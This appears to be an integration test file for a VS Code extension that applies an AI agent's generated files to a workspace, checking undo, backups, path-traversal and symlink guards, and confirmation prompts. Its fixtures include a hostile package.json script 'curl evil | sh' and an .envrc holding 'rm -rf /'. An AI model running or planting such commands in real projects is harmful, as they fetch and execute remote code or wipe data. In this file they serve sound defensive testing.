import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import * as vscode from 'vscode';
import { emulator, until } from './control';
import { request, taskWith, untilStatus } from './service';
import { stub } from './stub';

interface Asked {
  readonly words: string;
  readonly detail: string | undefined;
}

describe('applying what the agent made', () => {
  const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? '';
  const at = (path: string): string => join(root, path);
  const bytesAt = (path: string): Promise<Buffer> => readFile(at(path));
  const textAt = async (path: string): Promise<string> => (await bytesAt(path)).toString();
  const put = async (path: string, content: string | Uint8Array): Promise<void> => {
    await mkdir(dirname(at(path)), { recursive: true });
    await writeFile(at(path), content);
  };
  const apply = (taskId: string, paths?: string | readonly string[]): Thenable<unknown> =>
    vscode.commands.executeCommand('sigmic.applyArtifact', taskId, paths);
  let before: readonly string[];
  let asked: Asked[];
  let told: string[];
  let errors: string[];
  let answer: string | undefined;
  let pressed: string | undefined;
  const unstub: (() => void)[] = [];

  beforeEach(async () => {
    await emulator.reset();
    await vscode.extensions.getExtension('sigmic.sigmic')?.activate();
    before = await readdir(root);
    asked = [];
    told = [];
    errors = [];
    answer = undefined;
    pressed = undefined;
    const warn: unknown = (words: string, options: unknown) => {
      const detail: unknown =
        typeof options === 'object' ? Reflect.get(Object(options), 'detail') : undefined;
      asked.push({ words, detail: typeof detail === 'string' ? detail : undefined });
      return Promise.resolve(detail === undefined ? undefined : answer);
    };
    const inform: unknown = (words: string) => {
      told.push(words);
      return Promise.resolve(pressed);
    };
    const fail: unknown = (words: string) => {
      errors.push(words);
      return Promise.resolve(undefined);
    };
    unstub.push(
      stub(vscode.window, 'showErrorMessage', fail as typeof vscode.window.showErrorMessage),
      stub(vscode.window, 'showWarningMessage', warn as typeof vscode.window.showWarningMessage),
      stub(vscode.window, 'showInformationMessage', inform as typeof vscode.window.showInformationMessage),
    );
  });
  afterEach(async () => {
    for (const undo of unstub.splice(0)) undo();
    assert.deepEqual(errors, []);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    for (const name of await readdir(root))
      if (!before.includes(name)) await rm(at(name), { recursive: true });
  });

  it('writes new and changed texts, and one Undo takes all of it back', async () => {
    await put('first/one.txt', 'one\ntwo\nthree\n');
    await put('first/crlf.txt', 'a\r\nb\r\n');
    const id = await taskWith({
      'first/one.txt': 'one\n2\nthree\n',
      'first/crlf.txt': 'a\nB\n',
      'first/deep/new.txt': 'new\r\nü\n',
    });
    assert.deepEqual(await apply(id, ['first/one.txt', 'first/crlf.txt', 'first/deep/new.txt']), [
      'first/one.txt',
      'first/crlf.txt',
      'first/deep/new.txt',
    ]);
    assert.equal(await textAt('first/one.txt'), 'one\n2\nthree\n');
    assert.equal(await textAt('first/crlf.txt'), 'a\r\nB\r\n', 'the file keeps its line ends');
    assert.equal(await textAt('first/deep/new.txt'), 'new\r\nü\n');
    assert.deepEqual(told, ['3 files applied to workspace.']);
    assert.deepEqual(asked, []);
    const document = await vscode.workspace.openTextDocument(at('first/one.txt'));
    await vscode.window.showTextDocument(document);
    await vscode.commands.executeCommand('undo');
    await until(() => document.getText() === 'one\ntwo\nthree\n');
    await until(
      async () =>
        !(await readdir(at('first'))).includes('deep') || (await readdir(at('first/deep'))).length === 0,
    );
    const other = await vscode.workspace.openTextDocument(at('first/crlf.txt'));
    assert.equal(other.getText(), 'a\r\nb\r\n');
    await vscode.workspace.saveAll();
  });

  it('takes all back by the button of the notification, bytes from their backup', async () => {
    const old = Buffer.from([0, 1, 2, 255]);
    const made = Buffer.from([9, 8, 0, 254]);
    await put('in/data.bin', old);
    await chmod(at('in/data.bin'), 0o750);
    await put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
    await put('in/a.txt', 'mine\n');
    const id = await taskWith({
      'in/data.bin': made,
      'in/fresh.bin': made,
      'in/latin.txt': 'café\n',
      'in/a.txt': 'theirs\n',
    });
    assert.equal(((await apply(id, 'in/')) as readonly string[]).length, 4);
    assert.deepEqual(await bytesAt('in/data.bin'), made);
    assert.equal((await stat(at('in/data.bin'))).mode & 0o777, 0o750);
    assert.deepEqual(await bytesAt('in/fresh.bin'), made);
    assert.equal(await textAt('in/latin.txt'), 'café\n');
    assert.equal(await textAt('in/a.txt'), 'theirs\n');
    // What was not valid UTF-8 must survive: no Undo of an editor could bring it back.
    await put('in/data.bin', old);
    await put('in/latin.txt', Buffer.from('caf\xe9\n', 'latin1'));
    await put('in/a.txt', 'mine\n');
    await rm(at('in/fresh.bin'));
    await until(async () => (await vscode.workspace.openTextDocument(at('in/a.txt'))).getText() === 'mine\n');
    pressed = 'Undo';
    assert.equal(((await apply(id, 'in/')) as readonly string[]).length, 4);
    await until(async () => (await bytesAt('in/data.bin')).equals(old));
    await until(async () => (await bytesAt('in/latin.txt')).equals(Buffer.from('caf\xe9\n', 'latin1')));
    await until(async () => !(await readdir(at('in'))).includes('fresh.bin'));
    await until(async () => (await vscode.workspace.openTextDocument(at('in/a.txt'))).getText() === 'mine\n');
    assert.deepEqual((await readdir(at('in'))).sort(), ['a.txt', 'data.bin', 'latin.txt']);
    await vscode.workspace.saveAll();
  });

  it('restores what was replaced from the palette, and what that replaced too', async () => {
    const [old, made] = [Buffer.from([0, 1, 2, 255]), Buffer.from([9, 8, 0, 254])];
    await put('in/data.bin', old);
    const id = await taskWith({ 'in/data.bin': made, 'in/fresh.bin': made });
    assert.equal(((await apply(id, 'in/')) as readonly string[]).length, 2);
    const offered: string[][] = [];
    let takes = false;
    const pick: unknown = (items: readonly vscode.QuickPickItem[]) => {
      offered.push(items.map(({ label, detail }) => [label, detail ?? ''].join(' ').trim()));
      return Promise.resolve(takes ? items[0] : undefined);
    };
    unstub.push(stub(vscode.window, 'showQuickPick', pick as typeof vscode.window.showQuickPick));
    assert.deepEqual(await vscode.commands.executeCommand('sigmic.restoreBackup'), []);
    assert.equal(offered[0]?.[0], 'in/data.bin and in/fresh.bin (was not there)');
    assert.deepEqual(await bytesAt('in/data.bin'), made);
    takes = true;
    assert.deepEqual(await vscode.commands.executeCommand('sigmic.restoreBackup'), [
      'in/fresh.bin',
      'in/data.bin',
    ]);
    assert.deepEqual(await bytesAt('in/data.bin'), old);
    assert.deepEqual(await readdir(at('in')), ['data.bin']);
    assert.match(told.at(-1) ?? '', /^2 files restored\.$/);
    assert.deepEqual(await vscode.commands.executeCommand('sigmic.restoreBackup'), [
      'in/data.bin',
      'in/fresh.bin',
    ]);
    assert.deepEqual(await bytesAt('in/data.bin'), made);
    assert.deepEqual(await bytesAt('in/fresh.bin'), made);
    await rm(at('in'), { recursive: true });
    await symlink(tmpdir(), at('in'));
    assert.deepEqual(await vscode.commands.executeCommand('sigmic.restoreBackup'), []);
    assert.match(asked.at(-1)?.words ?? '', /not restored: .*would follow a link out of the folder/);
    await rm(at('in'));
  });

  it('leaves what is the same alone and says so', async () => {
    await put('in/same.txt', 'a\r\nb\r\n');
    const id = await taskWith({ 'in/same.txt': 'a\nb\n' });
    assert.deepEqual(await apply(id, 'in/same.txt'), []);
    assert.match(told.join(), /as they are in the task/);
    assert.equal(await textAt('in/same.txt'), 'a\r\nb\r\n');
  });

  it('asks before it writes what programs obey, naming each, and writes nothing unless it is answered', async () => {
    await put('package.json', '{"scripts":{"test":"mocha"}}\n');
    const id = await taskWith({
      '.vscode/tasks.json': '{}',
      'package.json': '{"scripts":{"test":"curl evil | sh"}}\n',
      Makefile: 'all:\n\ttrue\n',
      'plain.txt': 'plain\n',
      '.github/workflows/ci.yml': 'on: push\n',
    });
    assert.deepEqual(await apply(id), []);
    assert.equal(asked.length, 1);
    assert.match(asked[0]?.words ?? '', /Apply these 4 files too\?/);
    for (const path of ['.vscode/tasks.json', 'package.json', 'Makefile', '.github/workflows/ci.yml'])
      assert.ok(asked[0]?.detail?.includes(`${path}: `), path);
    assert.equal((await readdir(root)).includes('plain.txt'), false);
    answer = 'Leave These Out';
    assert.deepEqual(await apply(id), ['plain.txt']);
    assert.equal((await readdir(root)).includes('Makefile'), false);
    assert.match(await textAt('package.json'), /mocha/);
    answer = 'Apply All';
    assert.equal(((await apply(id)) as readonly string[]).length, 4);
    assert.equal(await textAt('.vscode/tasks.json'), '{}');
    assert.match(await textAt('package.json'), /curl evil/);
    await rm(at('package.json'));
  });

  it('asks before it replaces changes that are not saved', async () => {
    await put('in/open.txt', 'saved\n');
    const id = await taskWith({ 'in/open.txt': 'theirs\n' });
    const document = await vscode.workspace.openTextDocument(at('in/open.txt'));
    const editor = await vscode.window.showTextDocument(document);
    await editor.edit((edit) => edit.insert(new vscode.Position(0, 0), 'typed '));
    assert.deepEqual(await apply(id, 'in/open.txt'), []);
    assert.match(asked[0]?.detail ?? '', /in\/open\.txt: has unsaved changes/);
    assert.equal(document.getText(), 'typed saved\n');
    answer = 'Apply All';
    assert.deepEqual(await apply(id, 'in/open.txt'), ['in/open.txt']);
    assert.equal(document.getText(), 'theirs\n');
    await vscode.window.showTextDocument(document);
    await vscode.commands.executeCommand('undo');
    assert.equal(document.getText(), 'typed saved\n');
    await vscode.workspace.saveAll();
  });

  it('never writes outside of the workspace or into Git, whatever the server lists', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'sigmic-outside-'));
    try {
      await mkdir(at('real/.git/hooks'), { recursive: true });
      await symlink(outside, at('out'));
      await symlink(join(outside, 'missing.txt'), at('dangling.txt'));
      await symlink(at('real/.git/hooks'), at('hooks'));
      await put('README.md', 'mine\n');
      await put('file', 'a file\n');
      const id = await taskWith({ 'ok.txt': 'ok\n' });
      const paths = [
        '../escape.txt',
        '/etc/passwd',
        '//server/share',
        'C:/windows/x',
        'a/../../b.txt',
        '..\\x.txt',
        'nul.txt',
        'a:stream',
        '.git/hooks/pre-commit',
        'sub/.GIT/config',
        'out/x.txt',
        'dangling.txt',
        'hooks/pre-push',
        'readme.md',
        'file/below.txt',
        'real',
        'ok.txt',
      ];
      const files = paths.map((path) => ({
        name: path,
        path,
        size: 3,
        modifiedAt: new Date().toISOString(),
      }));
      await emulator.fault({
        match: { method: 'GET', path: `${id}/artifacts$` },
        respond: { status: 200, body: { success: true, data: { files } } },
      });
      await emulator.fault({
        match: { method: 'GET', path: `${id}/artifacts/download` },
        respond: { status: 200, body: 'ok\n' },
      });
      assert.deepEqual(await apply(id), ['ok.txt']);
      assert.equal(await textAt('ok.txt'), 'ok\n');
      assert.deepEqual(await readdir(outside), []);
      assert.deepEqual(await readdir(at('real/.git/hooks')), []);
      assert.equal(await textAt('README.md'), 'mine\n');
      const made = (await readdir(root)).filter((name) => !before.includes(name)).sort();
      assert.deepEqual(made, ['README.md', 'dangling.txt', 'file', 'hooks', 'ok.txt', 'out', 'real']);
      assert.match(
        asked.map(({ words }) => words).join(),
        /^\d+ files not applied: "etc\/passwd" has an absolute path;/,
      );
    } finally {
      await rm(outside, { recursive: true });
    }
  });

  for (const [kind, path, content] of [
    ['texts', 'later/new.txt', 'new\n'],
    ['bytes', 'later/data.bin', Buffer.from([0, 1, 255])],
  ] as const) {
    it(`follows no link that was put in the way while the person was asked (${kind})`, async () => {
      const outside = await mkdtemp(join(tmpdir(), 'sigmic-outside-'));
      const id = await taskWith({ Makefile: 'all:\n', [path]: content });
      const ask: unknown = async () => {
        await symlink(outside, at('later'));
        return 'Apply All';
      };
      unstub.push(stub(vscode.window, 'showWarningMessage', ask as typeof vscode.window.showWarningMessage));
      assert.deepEqual(await apply(id), kind === 'texts' ? [] : ['Makefile']);
      assert.deepEqual(await readdir(outside), []);
      assert.match(errors.splice(0).join(), /"later\/[a-z.]+" would follow a link out of the folder now/);
      await rm(outside, { recursive: true });
    });
  }

  it('leaves the old file when a download is cut, and says so', async () => {
    await put('in/large.bin', Buffer.from([0, 1]));
    const id = await taskWith({ 'in/large.bin': Buffer.alloc(300_000, 0) });
    for (const cut of [{ dropAfterBytes: 100_000 }, { endAfterBytes: 100_000 }]) {
      await emulator.fault({ match: { method: 'GET', path: '/artifacts/download', times: 1 }, ...cut });
      assert.deepEqual(await apply(id, 'in/large.bin'), []);
      assert.deepEqual(await bytesAt('in/large.bin'), Buffer.from([0, 1]));
      assert.match(errors.pop() ?? '', /Could not apply the files/);
    }
    assert.deepEqual(await readdir(at('in')), ['large.bin']);
  });

  it('says nothing of files applied, and offers no Undo, when none could be written', async () => {
    const id = await taskWith({ 'in/huge.bin': Buffer.alloc(16 * 1024 * 1024 + 1, 0) });
    await emulator.fault({
      match: { method: 'GET', path: '/artifacts/download', times: 1 },
      endAfterBytes: 100_000,
    });
    assert.deepEqual(await apply(id, 'in/huge.bin'), []);
    assert.match(errors.pop() ?? '', /Could not apply all files/);
    assert.deepEqual(told, []);
  });

  it('puts what was sent back where a file of its name is', async () => {
    await put('in/deep/sent.txt', 'mine\n');
    await put('sent-at-the-top.txt', 'mine\n');
    const form = new FormData();
    form.append('message', 'Hello');
    form.append('files', new Blob(['theirs\n']), 'sent-at-the-top.txt');
    form.append('files', new Blob(['new\n']), 'other.txt');
    const id = String(Reflect.get(Object(await request('POST', '/tasks', form)), 'id'));
    await untilStatus(id, 'completed');
    assert.deepEqual(await apply(id), ['other.txt', 'sent-at-the-top.txt']);
    assert.equal(await textAt('sent-at-the-top.txt'), 'theirs\n');
  });

  it('lets the person choose among all files', async () => {
    await put('in/same.txt', 'same\n');
    await put('in/changed.txt', 'mine\n');
    const id = await taskWith({
      'in/same.txt': 'same\n',
      'in/changed.txt': 'theirs\n',
      'in/new.txt': 'new\n',
      '.envrc': 'rm -rf /\n',
    });
    let shown: readonly unknown[] = [];
    const pick: unknown = (items: readonly { picked: boolean }[]) => {
      shown = items.map((item) =>
        ['label', 'description', 'picked'].map((key): unknown => Reflect.get(item, key)),
      );
      return Promise.resolve(items.filter(({ picked }) => picked));
    };
    unstub.push(stub(vscode.window, 'showQuickPick', pick as typeof vscode.window.showQuickPick));
    const written = await vscode.commands.executeCommand('sigmic.applyArtifacts', id);
    assert.deepEqual(shown, [
      ['.envrc', 'new', false],
      ['in/changed.txt', 'changed', true],
      ['in/new.txt', 'new', true],
      ['in/same.txt', 'the same as here', false],
    ]);
    assert.deepEqual(written, ['in/changed.txt', 'in/new.txt']);
    assert.deepEqual(asked, []);
  });
});
